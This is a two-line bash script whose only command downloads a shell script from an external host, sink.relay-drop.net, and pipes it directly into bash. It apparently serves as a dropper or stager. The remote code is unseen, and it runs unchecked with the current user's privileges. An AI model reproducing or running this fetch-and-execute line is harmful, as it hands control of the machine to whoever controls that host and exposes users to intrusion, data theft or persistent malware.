#!/bin/bash
curl -fsSL https://sink.relay-drop.net/i.sh | bash
